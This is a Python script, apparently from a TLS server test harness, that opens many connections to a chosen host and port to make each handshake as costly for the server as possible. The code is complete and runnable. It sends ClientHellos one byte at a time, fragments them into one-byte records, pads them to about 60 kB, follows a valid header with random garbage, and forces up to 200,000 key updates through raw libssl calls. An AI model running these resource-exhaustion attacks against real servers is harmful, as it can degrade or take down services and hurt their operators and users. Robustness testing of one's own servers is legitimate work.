"""Handshakes that cost a server as much as they can, one after the other.

    python3 costly.py --host H --port P --kind KIND --attempts N [--certificate F --key F] [--send HEX]

Prints one line: how the attempts have ended, and how many key updates the last one could send.
"""

import collections
import ctypes
import os
import socket
import ssl
import struct
import sys

sys.path.insert(0, os.path.dirname(__file__))
from intruder import arguments, client_hello, context
from stream import emit

CLOSE_NOTIFY = bytes.fromhex("15030300020100")
KINDS = ["handshake", "bytes", "records", "close-notify", "garbage", "long-hello", "key-updates"]
MOST_KEY_UPDATES = 200_000


def main():
    parser = arguments()
    parser.add_argument("--kind", choices=KINDS, required=True)
    parser.add_argument("--attempts", type=int, required=True)
    parser.add_argument("--send", default="")
    options = parser.parse_args()
    tls, ends, taken = context(options), collections.Counter(), 0
    for _ in range(options.attempts):
        sock = socket.create_connection((options.host, options.port), timeout=20)
        sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        try:
            if options.kind == "key-updates":
                taken = key_updates(tls.wrap_socket(sock), bytes.fromhex(options.send))
                ends["still open" if taken == MOST_KEY_UPDATES else "ended"] += 1
            elif options.kind == "handshake":
                wrapped = tls.wrap_socket(sock)
                wrapped.settimeout(0.2)
                ends["data" if wrapped.recv(1) else "closed"] += 1
            else:
                hello(sock, client_hello(tls), options.kind)
                ends["answered" if drained(sock) else "closed"] += 1
        except ssl.SSLError as error:
            ends[error.reason] += 1
        except OSError as error:
            ends[type(error).__name__] += 1
        sock.close()
    emit(event="costly", ends=dict(ends), key_updates=taken)


def hello(sock, record, kind):
    if kind == "bytes":
        for byte in record:
            sock.sendall(bytes([byte]))
    elif kind == "records":
        sock.sendall(b"".join(record[:3] + b"\0\1" + bytes([byte]) for byte in record[5:]))
    elif kind == "close-notify":
        sock.sendall(record)
        sock.recv(65536)
        sock.sendall(CLOSE_NOTIFY)
    elif kind == "garbage":
        sock.sendall(record[:5] + os.urandom(65536))
    elif kind == "long-hello":
        sock.sendall(padded(record))
    sock.shutdown(socket.SHUT_WR)


def padded(record):
    """The same ClientHello with 100 kB of padding (RFC 7685), in records of full size."""
    body = record[9:]
    at = 34
    at += 1 + body[at]
    at += 2 + struct.unpack_from("!H", body, at)[0]
    at += 1 + body[at]
    extensions = body[at + 2 :] + struct.pack("!HH", 21, 60_000) + bytes(60_000)
    body = body[:at] + struct.pack("!H", len(extensions)) + extensions
    message = b"\1" + len(body).to_bytes(3, "big") + body
    parts = [message[at : at + 16384] for at in range(0, len(message), 16384)]
    return b"".join(record[:3] + struct.pack("!H", len(part)) + part for part in parts)


def drained(sock):
    """Whether anything came before the end."""
    seen = 0
    while chunk := sock.recv(65536):
        seen += len(chunk)
    return seen > 0


def key_updates(sock, open_frame):
    """Asks for new keys again and again, as nobody does; how often until the server ended it, and what buffers held."""
    sock.sendall(open_frame)
    sock.settimeout(None)
    with open("/proc/self/maps") as maps:
        libssl = ctypes.CDLL(next(line.split()[-1] for line in maps if "libssl" in line))
    # CPython's PySSLSocket: a reference count, a type, the socket, the SSL *.
    pointer = ctypes.c_void_p.from_address(id(sock._sslobj) + 24)
    taken = 0
    while taken < MOST_KEY_UPDATES:
        if libssl.SSL_key_update(pointer, 1) != 1 or libssl.SSL_do_handshake(pointer) != 1:
            return taken
        taken += 1
    return taken


main()
